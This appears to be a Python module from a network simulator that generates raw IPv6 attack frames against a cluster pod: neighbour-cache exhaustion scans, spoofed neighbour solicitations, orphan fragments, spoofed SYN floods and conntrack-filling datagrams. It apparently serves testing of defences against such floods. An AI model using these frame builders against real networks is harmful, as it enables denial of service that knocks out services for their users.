"""The same over IPv6, and what only there can be done: a network is too large to remember.

Whoever sends to many of the 2^64 addresses behind a router makes it look for each (RFC 6583), and
whoever solicits in many names makes it remember each.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Mapping
from ipaddress import IPv6Address
from typing import Final

from netstack.ip6_output import header
from netstack.wire import checksum, ndp, tcp, udp
from netstack.wire.ethernet import ETHERTYPE_IPV6, Ethernet
from netstack.wire.ipv6 import Fragment, NextHeader
from netstack.wire.ndp import NeighbourSolicitation, Options
from simulator.attacks import Aim
from simulator.tables import POD_TCP_PORT, POD_UDP_PORT

_SYN: Final = int(tcp.Flag.SYN)
#: The addresses of a pod's network.
_HOSTS: Final = (1 << 64) - 1


def _frame(aim: Aim, packet: bytes) -> bytes:
    return Ethernet(aim.gateway_mac, aim.attacker_mac, ETHERTYPE_IPV6).emit() + packet


def _packet(protocol: int, source: IPv6Address, to: IPv6Address, payload: bytes) -> bytes:
    return header(protocol, (source.packed, to.packed), len(payload)) + payload


def _neighbour_of(address: IPv6Address, rng: random.Random) -> IPv6Address:
    return IPv6Address(int(address) & ~_HOSTS | rng.getrandbits(64))


def _datagram(source: IPv6Address, to: IPv6Address, rng: random.Random) -> bytes:
    size = udp.HEADER_OCTETS + 8
    bare = udp.HEADER.pack(rng.randrange(1024, 65536), POD_UDP_PORT, size, 0) + rng.randbytes(8)
    pseudo = checksum.pseudo_header(source.packed, to.packed, NextHeader.UDP, size)
    field = checksum.finish_udp(pseudo + checksum.add(bare)).to_bytes(2, "big")
    return _packet(NextHeader.UDP, source, to, bare[:6] + field + bare[8:])


def scan(aim: Aim, rng: random.Random) -> bytes:
    """Look for anybody in the victim's network; hardly anybody is there."""
    return _frame(aim, _datagram(aim.attacker6, _neighbour_of(aim.victim6, rng), rng))


def names(aim: Aim, rng: random.Random) -> bytes:
    """Ask the router for its MAC in the name of a neighbour who is not there."""
    source = _neighbour_of(aim.attacker6, rng)
    router = IPv6Address(int(aim.attacker6) & ~_HOSTS | 1)
    mac = b"\x0a" + rng.randbytes(5)
    question = NeighbourSolicitation(router, Options(source_mac=mac)).emit()
    payload = question.emit(source, router)
    fixed = header(NextHeader.ICMPV6, (source.packed, router.packed), len(payload), ndp.HOP_LIMIT)
    return _frame(aim, fixed + payload)


def fragment(aim: Aim, rng: random.Random) -> bytes:
    """Send a piece of a datagram whose other pieces never come."""
    piece = Fragment(
        next_header=NextHeader.UDP,
        offset=rng.randrange(180) * 8,
        more=True,
        identification=rng.getrandbits(32),
    )
    octets = piece.emit() + rng.randbytes(1200)
    return _frame(aim, _packet(NextHeader.FRAGMENT, aim.attacker6, aim.victim6, octets))


def syn(aim: Aim, rng: random.Random) -> bytes:
    """Begin a handshake in the name of somebody outside the cluster, and never end it."""
    source = IPv6Address((0x20010DB8 << 96) | rng.getrandbits(64))
    fields = [rng.randrange(1024, 65536), POD_TCP_PORT, rng.getrandbits(32), 0]
    rest = [5 << 12 | _SYN, 65535, 0, 0]
    bare = tcp.HEADER.pack(*fields, *rest)
    pseudo = checksum.pseudo_header(source.packed, aim.victim6.packed, NextHeader.TCP, len(bare))
    rest[2] = checksum.finish(pseudo + checksum.add(bare))
    return _frame(
        aim, _packet(NextHeader.TCP, source, aim.victim6, tcp.HEADER.pack(*fields, *rest))
    )


def datagram(aim: Aim, rng: random.Random) -> bytes:
    """Fill conntrack with datagrams that are answered."""
    return _frame(aim, _datagram(aim.attacker6, aim.victim6, rng))


#: Every attack by its name.
ATTACKS: Final[Mapping[str, Callable[[Aim, random.Random], bytes]]] = {
    "scan6": scan,
    "names6": names,
    "fragment6": fragment,
    "syn6": syn,
    "datagram6": datagram,
}
